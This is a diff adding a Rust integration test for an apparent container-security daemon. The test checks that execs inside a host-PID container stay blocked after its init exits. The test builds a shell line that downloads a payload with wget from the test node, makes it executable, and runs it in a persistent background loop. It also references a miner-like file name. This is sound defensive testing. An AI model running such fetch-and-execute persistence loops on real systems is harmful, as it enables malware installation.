@@ -414,6 +414,61 @@ fn a_base_runtime_spec_protects_containers_without_the_wrapper() {
             .as_array()
             .is_some_and(|u| u.is_empty())
     });
+
+    // A container in the host's PID namespace (Kubernetes' hostPID), whose init exits and
+    // leaves a process behind that keeps exec'ing the payload, as a hijacked one may:
+    // containerd's shim kills what is left in the container's cgroup when such an init
+    // exits, and until then every exec is still judged. The container is disarmed once its
+    // cgroup is empty, not at the init's exit.
+    let late = format!(
+        "wget -q -O /tmp/late {} && chmod +x /tmp/late && \
+         {{ (while :; do /tmp/late >/dev/null 2>&1; echo r=$? >>/.out/base-2; done) </dev/null >/dev/null 2>&1 & }}; \
+         sleep 1; exit 0",
+        node.payload_url()
+    );
+    // The rootfs is a plain directory, snapshotted at each arm: base-1's download is gone.
+    let _ = fs::remove_file(bundle.join("rootfs/tmp/kdevtmpfsi"));
+    spec["process"]["args"] = serde_json::json!(["sh", "-c", late]);
+    spec["linux"]["cgroupsPath"] = "/default/base-2".into();
+    spec["linux"]["namespaces"]
+        .as_array_mut()
+        .unwrap()
+        .retain(|n| n["type"] != "pid");
+    fs::write(&spec_path, serde_json::to_vec(&spec).unwrap()).unwrap();
+    let run = node.ctr(&[
+        "run",
+        "-d",
+        "--config",
+        spec_path.to_str().unwrap(),
+        "base-2",
+    ]);
+    assert!(run.status.success(), "{}", text(&run));
+    wait_for(
+        "the unit of the shared-namespace container",
+        Duration::from_secs(10),
+        || {
+            node.status()["units"]
+                .as_array()
+                .is_some_and(|u| !u.is_empty())
+        },
+    );
+    wait_for(
+        "its disarm once its cgroup is empty",
+        Duration::from_secs(20),
+        || {
+            node.status()["units"]
+                .as_array()
+                .is_some_and(|u| u.is_empty())
+        },
+    );
+    let results = fs::read_to_string(out_dir.join("base-2")).unwrap_or_default();
+    assert!(results.contains("r=126"), "the loop ran: {results}");
+    assert!(
+        results.lines().all(|l| l == "r=126"),
+        "an exec of the container after its init's exit ran unjudged: {results}"
+    );
+    let _ = node.ctr(&["task", "delete", "base-2"]);
+    let _ = node.ctr(&["container", "delete", "base-2"]);
 }
 
 /// The capability set of systemd/driftlock.service is enough: the daemon runs with only
